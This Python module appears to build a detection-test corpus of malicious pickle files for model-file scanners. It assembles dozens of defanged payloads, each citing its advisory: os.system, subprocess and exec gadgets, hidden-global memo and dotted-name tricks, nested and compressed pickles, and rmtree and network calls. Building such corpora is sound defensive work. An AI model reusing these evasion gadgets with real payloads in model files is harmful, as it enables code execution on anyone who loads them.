"""Malicious samples, one per technique, assembled from pickle opcodes.

Every payload is harmless: a command is ``echo pthforensics-corpus``, Python source is
``print('pthforensics-corpus')``, paths and URLs point nowhere.  Nothing here is ever
unpickled; ``check`` only decodes opcodes.  Each sample cites where the technique was
published (advisory, issue or write-up).
"""

from __future__ import annotations

import gzip
import marshal
import zlib

from _common import CMD, CMD_ARGV, PY, Sample, malicious
from _opcodes import Asm, check

__all__ = ["os_system_pickle", "samples"]

# Published write-ups and advisories cited by the samples.
DILL = "https://blog.trailofbits.com/2021/03/15/never-a-dill-moment-exploiting-machine-learning-pickle-files/"
PICKLESCAN_BLOCKLIST = (
    "https://github.com/mmaitre314/picklescan/blob/main/src/picklescan/scanner.py"
)
PICKLESCAN_INST = "https://github.com/mmaitre314/picklescan/issues/13"
MODELSCAN_MEMO = "https://github.com/protectai/modelscan/issues/85"
MODELSCAN_GAPS = "https://github.com/protectai/modelscan/issues/338"
FICKLING_DOTTED = "https://github.com/trailofbits/fickling/security/advisories/GHSA-5j3x-jp52-966f"
MODELAUDIT_EXT = "https://github.com/promptfoo/modelaudit/pull/623"
FICKLING_EXT = "https://github.com/trailofbits/fickling/pull/172"
MODELAUDIT_MEMO = "https://github.com/promptfoo/modelaudit/pull/518"
PICKLESCAN_DEBUGGERS = "https://github.com/mmaitre314/picklescan/pull/29"
PICKLESCAN_ASYNCIO = "https://github.com/mmaitre314/picklescan/pull/30"
MODELSCAN_TIMEIT = "https://github.com/protectai/modelscan/issues/272"
FICKLING_PTY = "https://github.com/trailofbits/fickling/security/advisories/GHSA-r7v6-mfhq-g3m2"
FICKLING_POSIXSUBPROCESS = "https://github.com/trailofbits/fickling/pull/272"
FICKLING_BATCH = "https://github.com/trailofbits/fickling/pull/210"
PIP_CVE = "https://osv.dev/vulnerability/CVE-2025-1716"
PICKLESCAN_OPERATOR = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-m273-6v24-x4m4"
)
PICKLESCAN_PROFILERS = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-4675-36f9-wf6r"
)
PICKLESCAN_NESTED = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-84r2-jw7c-4r5q"
)
PICKLESCAN_NETWORK = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-hgrh-qx5j-jfwx"
)
PICKLESCAN_IDLELIB = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-6w4w-5w54-rjvr"
)
PICKLESCAN_DOCTEST = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-fqq6-7vqf-w3fg"
)
PICKLESCAN_CPROFILE = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-9w88-8rmg-7g2p"
)
PICKLESCAN_TRACE = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-5qwp-399c-mjwf"
)
PICKLESCAN_PROFILE = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-x696-vm39-cp64"
)
PICKLESCAN_ENSUREPIP = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-xp4f-hrf8-rxw7"
)
PICKLESCAN_CODE = "https://github.com/mmaitre314/picklescan/pull/48"
PICKLESCAN_PR53 = "https://github.com/mmaitre314/picklescan/pull/53"
HIDE_AND_SEEK = "https://arxiv.org/abs/2508.19774"
CVE_2025_32434 = "https://nvd.nist.gov/vuln/detail/CVE-2025-32434"
COMPRESSED = "https://github.com/mmaitre314/picklescan/pull/68"
EXTENSION_BYPASS = (
    "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr"
)

_NOWHERE_URL = "http://127.0.0.1:9/pthforensics-corpus"
_NOWHERE_PATH = "/nonexistent/pthforensics-corpus"


def os_system_pickle(protocol: int = 2) -> bytes:
    """``os.system('echo pthforensics-corpus')``: the inner payload of the nested samples."""
    return Asm(protocol).call("os", "system", CMD).stop().data


def _npy_object_array(inner_pickle: bytes) -> bytes:
    """A ``.npy`` file of dtype object: numpy.lib.format writes the array as a pickle
    after the header, and ``numpy.load(allow_pickle=True)`` unpickles it."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + inner_pickle


def _pickles() -> list[Sample]:
    """Plain pickle files, format ``pickle``."""
    inner = os_system_pickle()
    out = []

    def add(
        name: str, asm: Asm, technique: str, reference: str | None, *, dis: bool = True
    ) -> None:
        data = asm.stop().data
        if dis:  # pickletools refuses memo overwrites, which one sample relies on
            check(data)
        out.append(malicious(name, data, technique=technique, reference=reference))

    # -- direct command execution ---------------------------------------------------
    add("os_system.pkl", Asm(2).call("os", "system", CMD), "GLOBAL os.system + REDUCE", DILL)
    add(
        "posix_system.pkl",
        Asm(2).call("posix", "system", CMD),
        "GLOBAL posix.system (os alias on Linux) + REDUCE",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "nt_system.pkl",
        Asm(2).call("nt", "system", CMD),
        "GLOBAL nt.system (os alias on Windows) + REDUCE",
        PICKLESCAN_BLOCKLIST,
    )
    out.append(
        malicious(
            "proto0_text.pkl",
            b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.",
            technique="protocol 0 text pickle: cos/system, S string, tR.",
            reference=DILL,
        )
    )
    add(
        "inst.pkl",
        Asm(None).mark().string(CMD).inst("os", "system"),
        "INST opcode (imports and calls in one opcode, no GLOBAL)",
        PICKLESCAN_INST,
    )
    add(
        "obj.pkl",
        Asm(None).proto(1).mark().global_("os", "system").text(CMD).obj(),
        "OBJ opcode: MARK callable args OBJ calls callable(*args)",
        PICKLESCAN_INST,
    )
    add(
        "newobj_popen.pkl",
        Asm(2).global_("subprocess", "Popen").value(CMD_ARGV).tuple1().newobj(),
        "NEWOBJ on subprocess.Popen (cls.__new__ only, but imports a process class)",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "newobj_ex_popen.pkl",
        Asm(4)
        .stack_global("subprocess", "Popen")
        .text(CMD)
        .tuple1()
        .value({"shell": True})
        .newobj_ex(),
        "NEWOBJ_EX (protocol 4) on subprocess.Popen with kwargs",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "subprocess_run.pkl",
        Asm(2).call("subprocess", "run", CMD_ARGV),
        "subprocess.run",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "subprocess_check_output.pkl",
        Asm(2).call("subprocess", "check_output", CMD_ARGV),
        "subprocess.check_output",
        PICKLESCAN_BLOCKLIST,
    )
    add("pty_spawn.pkl", Asm(2).call("pty", "spawn", CMD_ARGV), "pty.spawn", FICKLING_PTY)
    add(
        "posixsubprocess_fork_exec.pkl",
        # Arguments mirror CPython 3.11 subprocess.Popen._execute_child.
        Asm(3).call(
            "_posixsubprocess",
            "fork_exec",
            [b"echo", b"pthforensics-corpus"],
            [b"/bin/echo"],
            True,
            (),
            None,
            None,
            -1,
            -1,
            -1,
            -1,
            -1,
            -1,
            3,
            4,
            True,
            False,
            -1,
            None,
            None,
            None,
            -1,
            None,
            True,
        ),
        "_posixsubprocess.fork_exec (C fork+exec, below subprocess)",
        FICKLING_POSIXSUBPROCESS,
    )
    add(
        "asyncio_subprocess_shell.pkl",
        Asm(2)
        .global_("asyncio", "run")
        .call("asyncio", "create_subprocess_shell", CMD)
        .tuple1()
        .reduce(),
        "asyncio.run(asyncio.create_subprocess_shell(...))",
        PICKLESCAN_ASYNCIO,
    )
    add(
        "asyncio_subprocess_exec.pkl",
        Asm(2)
        .global_("asyncio", "run")
        .call("asyncio.subprocess", "create_subprocess_exec", *CMD_ARGV)
        .tuple1()
        .reduce(),
        "asyncio.subprocess.create_subprocess_exec (submodule name)",
        FICKLING_BATCH,
    )
    add(
        "torch_collect_env_run.pkl",
        Asm(2).call("torch.utils.collect_env", "run", CMD),
        "torch.utils.collect_env.run (shell=True inside torch)",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "distutils_spawn.pkl",
        Asm(2).call("distutils.spawn", "spawn", CMD_ARGV),
        "distutils.spawn.spawn (blocklists often only list distutils.file_util)",
        FICKLING_BATCH,
    )
    add(
        "osx_support_read_output.pkl",
        Asm(2).call("_osx_support", "_read_output", CMD),
        "_osx_support._read_output (os.system inside a private stdlib module)",
        HIDE_AND_SEEK,
    )
    add(
        "uuid_get_command_stdout.pkl",
        Asm(2).call("uuid", "_get_command_stdout", *CMD_ARGV),
        "uuid._get_command_stdout (Popen inside uuid)",
        HIDE_AND_SEEK,
    )
    add(
        "pydoc_pipepager.pkl",
        Asm(2).call("pydoc", "pipepager", "pthforensics-corpus", CMD),
        "pydoc.pipepager (shell command as pager)",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "ensurepip_run_pip.pkl",
        Asm(2).call("ensurepip", "_run_pip", ["--version"]),
        "ensurepip._run_pip",
        PICKLESCAN_ENSUREPIP,
    )
    add(
        "pip_main.pkl",
        Asm(2).call("pip", "main", ["--version"]),
        "pip.main (install a package at load time)",
        PIP_CVE,
    )

    # -- Python code execution ------------------------------------------------------
    add("builtins_exec.pkl", Asm(2).call("builtins", "exec", PY), "builtins.exec", DILL)
    add("builtins_eval.pkl", Asm(3).call("builtins", "eval", PY), "builtins.eval", DILL)
    add(
        "builtins_compile.pkl",
        Asm(2)
        .global_("builtins", "exec")
        .call("builtins", "compile", PY, "<pthforensics-corpus>", "exec")
        .tuple1()
        .reduce(),
        "builtins.exec(builtins.compile(...))",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "py2_builtin_eval.pkl",
        Asm(2).call("__builtin__", "eval", PY),
        "__builtin__.eval: Python 2 name mapped to builtins by fix_imports",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "getattr_import.pkl",
        Asm(2)
        .global_("builtins", "getattr")
        .call("builtins", "__import__", "os")
        .text("system")
        .tuple2()
        .reduce()
        .text(CMD)
        .tuple1()
        .reduce(),
        "getattr(__import__('os'), 'system')(...): only builtins globals",
        DILL,
    )
    add(
        "importlib_import_module.pkl",
        Asm(2)
        .global_("builtins", "getattr")
        .call("importlib", "import_module", "os")
        .text("system")
        .tuple2()
        .reduce()
        .text(CMD)
        .tuple1()
        .reduce(),
        "getattr(importlib.import_module('os'), 'system')(...)",
        HIDE_AND_SEEK,
    )
    add(
        "runpy_run_code.pkl",
        Asm(2).call("runpy", "_run_code", PY, {}),
        "runpy._run_code (exec in a fresh namespace)",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "code_interactive_interpreter.pkl",
        Asm(4)
        .stack_global("code", "InteractiveInterpreter.runsource")
        .call("code", "InteractiveInterpreter")
        .text(PY)
        .tuple2()
        .reduce(),
        "code.InteractiveInterpreter().runsource via a dotted protocol-4 name",
        PICKLESCAN_CODE,
    )
    add(
        "timeit.pkl",
        Asm(2).call("timeit", "timeit", "pass", PY),
        "timeit.timeit with the payload as setup code",
        MODELSCAN_TIMEIT,
    )
    add("cprofile_run.pkl", Asm(2).call("cProfile", "run", PY), "cProfile.run", PICKLESCAN_CPROFILE)
    add(
        "profile_run.pkl",
        Asm(4)
        .stack_global("profile", "Profile.run")
        .call("profile", "Profile")
        .text(PY)
        .tuple2()
        .reduce(),
        "profile.Profile().run via dotted name",
        PICKLESCAN_PROFILE,
    )
    add("pdb_run.pkl", Asm(2).call("pdb", "run", PY), "pdb.run", PICKLESCAN_DEBUGGERS)
    add(
        "bdb_run.pkl",
        Asm(4).stack_global("bdb", "Bdb.run").call("bdb", "Bdb").text(PY).tuple2().reduce(),
        "bdb.Bdb().run via dotted name",
        PICKLESCAN_DEBUGGERS,
    )
    add(
        "trace_run.pkl",
        Asm(4).stack_global("trace", "Trace.run").call("trace", "Trace").text(PY).tuple2().reduce(),
        "trace.Trace().run via dotted name",
        PICKLESCAN_TRACE,
    )
    add(
        "idlelib_get_entity.pkl",
        Asm(4)
        .stack_global("idlelib.autocomplete", "AutoComplete.get_entity")
        .none()
        .text(PY)
        .tuple2()
        .reduce(),
        "idlelib.autocomplete.AutoComplete.get_entity (eval)",
        PICKLESCAN_IDLELIB,
    )
    add(
        "doctest_debug_script.pkl",
        Asm(2).call("doctest", "debug_script", PY),
        "doctest.debug_script",
        PICKLESCAN_DOCTEST,
    )
    add(
        "torch_execwrapper.pkl",
        Asm(2).call("torch.jit.unsupported_tensor_ops", "execWrapper", PY, {}, {}),
        "torch.jit.unsupported_tensor_ops.execWrapper (exec inside the torch namespace)",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "numpy_runstring.pkl",
        Asm(2).call("numpy.testing._private.utils", "runstring", PY, {}),
        "numpy.testing._private.utils.runstring (exec inside the numpy namespace)",
        PICKLESCAN_BLOCKLIST,
    )
    code = marshal.dumps(compile(PY, "<pthforensics-corpus>", "exec"))
    add(
        "marshal_function.pkl",
        Asm(3)
        .global_("types", "FunctionType")
        .call("marshal", "loads", code)
        .empty_dict()
        .tuple2()
        .reduce()
        .empty_tuple()
        .reduce(),
        "types.FunctionType(marshal.loads(code), {})() (CPython 3.11 bytecode)",
        HIDE_AND_SEEK,
    )

    # -- wrappers around a callable -------------------------------------------------
    add(
        "operator_attrgetter.pkl",
        Asm(2)
        .call("operator", "attrgetter", "system")
        .call("importlib", "import_module", "os")
        .tuple1()
        .reduce()
        .text(CMD)
        .tuple1()
        .reduce(),
        "operator.attrgetter('system')(module)(...)",
        PICKLESCAN_OPERATOR,
    )
    add(
        "operator_methodcaller.pkl",
        Asm(2)
        .call("operator", "methodcaller", "system", CMD)
        .call("importlib", "import_module", "os")
        .tuple1()
        .reduce(),
        "operator.methodcaller('system', cmd)(module)",
        PICKLESCAN_OPERATOR,
    )
    add(
        "functools_partial.pkl",
        Asm(2)
        .global_("functools", "partial")
        .global_("builtins", "exec")
        .text(PY)
        .tuple2()
        .reduce()
        .empty_tuple()
        .reduce(),
        "functools.partial(exec, src)()",
        FICKLING_BATCH,
    )
    add(
        "ctypes_cdll.pkl",
        Asm(3)
        .global_("builtins", "getattr")
        .call("ctypes", "CDLL", None)
        .text("system")
        .tuple2()
        .reduce()
        .binary(CMD.encode())
        .tuple1()
        .reduce(),
        "getattr(ctypes.CDLL(None), 'system')(...): libc system()",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "rebuild_from_type_v2.pkl",
        Asm(2)
        .global_("torch._tensor", "_rebuild_from_type_v2")
        .mark()
        .global_("os", "system")
        .global_("torch", "Tensor")
        .text(CMD)
        .tuple1()
        .empty_dict()
        .tuple()
        .reduce(),
        "torch._tensor._rebuild_from_type_v2(func=os.system, ...): allow-listed torch "
        "rebuild helper that calls its first argument",
        HIDE_AND_SEEK,
    )
    add(
        "build_setstate.pkl",
        Asm(2)
        .global_("argparse", "Namespace")
        .empty_tuple()
        .newobj()
        .empty_dict()
        .text("__setstate__")
        .global_("os", "system")
        .setitem()
        .build()
        .text(CMD)
        .build(),
        "BUILD sets instance __setstate__ = os.system on an allow-listed class, a second "
        "BUILD calls it (no REDUCE)",
        MODELSCAN_MEMO,
    )

    # -- hiding the global's name ---------------------------------------------------
    add(
        "stack_global_memo.pkl",
        Asm(4)
        .text("os")
        .put(0)
        .pop()
        .text("system")
        .put(1)
        .pop()
        .get(0)
        .get(1)
        .stack_global()
        .text(CMD)
        .tuple1()
        .reduce(),
        "STACK_GLOBAL whose names come from the memo (BINPUT/BINGET)",
        MODELSCAN_MEMO,
    )
    add(
        "stack_global_memoize.pkl",
        # MEMOIZE stores at len(memo): after PUT 1, that is index 1 again, so 'os' replaces
        # 'builtins'; a scanner that numbers MEMOIZEs 0, 1, 2... reads builtins.system.
        Asm(4)
        .text("builtins")
        .put(1)
        .pop()
        .text("os")
        .memoize()
        .pop()
        .text("system")
        .put(0)
        .pop()
        .get(1)
        .get(0)
        .stack_global()
        .text(CMD)
        .tuple1()
        .reduce(),
        "STACK_GLOBAL with names via MEMOIZE index arithmetic",
        MODELAUDIT_MEMO,
        dis=False,
    )
    add(
        "stack_global_decoy.pkl",
        Asm(4)
        .text("os")
        .text("system")
        .text("builtins")
        .text("print")
        .pop()
        .pop()
        .stack_global()
        .text(CMD)
        .tuple1()
        .reduce(),
        "STACK_GLOBAL after two popped decoy strings (nearest strings are builtins.print)",
        MODELAUDIT_MEMO,
    )
    add(
        "stack_global_dotted.pkl",
        Asm(4).stack_global("torch.serialization", "os.system").text(CMD).tuple1().reduce(),
        "protocol-4 dotted name: module torch.serialization, name os.system",
        FICKLING_DOTTED,
    )
    add(
        "stack_global_dotted_pathlib.pkl",
        Asm(4).stack_global("pathlib", "os.system").text(CMD).tuple1().reduce(),
        "protocol-4 dotted name through an innocuous stdlib module (pathlib.os.system)",
        FICKLING_DOTTED,
    )
    add(
        "global_dotted_proto4.pkl",
        Asm(4).global_("torch", "serialization.os.system").text(CMD).tuple1().reduce(),
        "text GLOBAL with a dotted name under PROTO 4 (torch + serialization.os.system)",
        FICKLING_DOTTED,
    )
    add(
        "builtins_dotted_exec.pkl",
        Asm(4).stack_global("builtins", "print.__self__.exec").text(PY).tuple1().reduce(),
        "builtins name print.__self__.exec (dotted traversal to exec)",
        MODELSCAN_GAPS,
    )
    add(
        "ext1_self_registered.pkl",
        Asm(2)
        .call("copyreg", "add_extension", "os", "system", 0x42)
        .pop()
        .ext1(0x42)
        .text(CMD)
        .tuple1()
        .reduce(),
        "copyreg.add_extension then EXT1: the callable has no name in the stream",
        MODELAUDIT_EXT,
    )
    add(
        "ext2_self_registered.pkl",
        Asm(2)
        .call("copyreg", "add_extension", "subprocess", "getoutput", 0x1234)
        .pop()
        .ext2(0x1234)
        .text(CMD)
        .tuple1()
        .reduce(),
        "copyreg.add_extension then EXT2",
        MODELAUDIT_EXT,
    )
    data = Asm(2).ext4(0x7F00_0001).text(CMD).tuple1().reduce().stop().data
    check(data)
    out.append(
        malicious(
            "ext4_unregistered.pkl",
            data,
            technique="EXT4 code (registry filled by some earlier import) + REDUCE: callable "
            "unknowable; in a fresh interpreter (torch.load's) the registry is empty and the "
            "lookup fails, so it runs nothing there: suspicious, not a claim of capability",
            reference=FICKLING_EXT,
            runs=False,
        )
    )

    # -- network, files, packages ---------------------------------------------------
    add(
        "shutil_rmtree.pkl",
        Asm(2).call("shutil", "rmtree", _NOWHERE_PATH),
        "shutil.rmtree (path does not exist)",
        PICKLESCAN_DEBUGGERS,
    )
    add(
        "webbrowser_open.pkl",
        Asm(2).call("webbrowser", "open", _NOWHERE_URL),
        "webbrowser.open",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "socket_create_connection.pkl",
        Asm(2).call("socket", "create_connection", ("127.0.0.1", 9)),
        "socket.create_connection",
        PICKLESCAN_NETWORK,
    )
    add(
        "urllib_urlopen.pkl",
        Asm(2).call("urllib.request", "urlopen", _NOWHERE_URL),
        "urllib.request.urlopen",
        PICKLESCAN_NETWORK,
    )
    add(
        "requests_get.pkl",
        Asm(2).call("requests", "get", _NOWHERE_URL),
        "requests.get (blocklists often list only requests.api)",
        PICKLESCAN_NETWORK,
    )
    add(
        "torch_hub_load.pkl",
        Asm(2).call("torch.hub", "load", "pthforensics/corpus-nonexistent", "model"),
        "torch.hub.load (downloads and runs hubconf.py)",
        HIDE_AND_SEEK,
    )

    # -- loading another pickle -----------------------------------------------------
    add(
        "pickle_loads.pkl",
        Asm(3).call("pickle", "loads", inner),
        "pickle.loads of an inner malicious pickle (BINBYTES)",
        PICKLESCAN_NESTED,
    )
    add(
        "pickle_loads_codecs.pkl",
        Asm(2)
        .global_("pickle", "loads")
        .call("_codecs", "encode", inner.decode("latin1"), "latin1")
        .tuple1()
        .reduce(),
        "pickle.loads(_codecs.encode(text, 'latin1')): inner pickle as a protocol-2 text string",
        PICKLESCAN_NESTED,
    )
    add(
        "pickle_loads_zlib.pkl",
        Asm(3)
        .global_("pickle", "loads")
        .call("zlib", "decompress", zlib.compress(inner, 9))
        .tuple1()
        .reduce(),
        "pickle.loads(zlib.decompress(...)): compressed inner pickle",
        MODELSCAN_GAPS,
    )
    add(
        "torch_load_nested.pkl",
        Asm(3)
        .global_("torch", "load")
        .call("_io", "BytesIO", inner)
        .none()
        .call("importlib", "import_module", "pickle")
        .tuple3()
        .reduce(),
        "torch.load(BytesIO(inner), None, pickle): explicit pickle_module disables weights_only",
        PICKLESCAN_BLOCKLIST,
    )
    add(
        "torch_storage_load_from_bytes.pkl",
        Asm(3).call("torch.storage", "_load_from_bytes", inner),
        "torch.storage._load_from_bytes (torch.load weights_only=False of inner bytes; "
        "looks like plain-pickled torch storage)",
        PICKLESCAN_NESTED,
    )
    add(
        "numpy_load.pkl",
        Asm(3)
        .global_("numpy", "load")
        .call("_io", "BytesIO", _npy_object_array(inner))
        .none()
        .boolean(True)
        .tuple3()
        .reduce(),
        "numpy.load(BytesIO(npy of dtype object), None, allow_pickle=True)",
        PICKLESCAN_BLOCKLIST,
    )

    # -- stream-level tricks --------------------------------------------------------
    benign_first = Asm(2).value({"epoch": 1, "note": "benign first pickle"}).stop().data
    out.append(
        malicious(
            "stacked_after_stop.pkl",
            benign_first + inner,
            technique="benign pickle, STOP, then a malicious pickle (stacked)",
            reference=PICKLESCAN_BLOCKLIST,
        )
    )
    truncated = Asm(2).call("os", "system", CMD).data
    out.append(
        malicious(
            "truncated_no_stop.pkl",
            truncated,
            technique="payload REDUCE with no STOP: runs before the loader fails",
            reference=CVE_2025_32434,
        )
    )
    out.append(
        malicious(
            "payload_then_garbage.pkl",
            truncated + b"\xff\xfe\x00garbage",
            technique="payload REDUCE followed by invalid opcodes",
            reference=CVE_2025_32434,
        )
    )
    out.append(
        malicious(
            "payload.pkl.gz",
            gzip.compress(inner, mtime=0),
            wrappers=("gzip",),
            technique="gzip-wrapped malicious pickle",
            reference=COMPRESSED,
        )
    )
    out.append(
        malicious(
            "renamed.jpg",
            inner,
            technique="malicious pickle named .jpg",
            reference=EXTENSION_BYPASS,
        )
    )
    out.append(
        malicious(
            "renamed.safetensors",
            inner,
            technique="malicious pickle named .safetensors",
            reference=EXTENSION_BYPASS,
        )
    )
    return out


def samples() -> list[Sample]:
    from _loader_model import loader_samples
    from _malicious_containers import container_samples

    return _pickles() + container_samples() + loader_samples()[1]
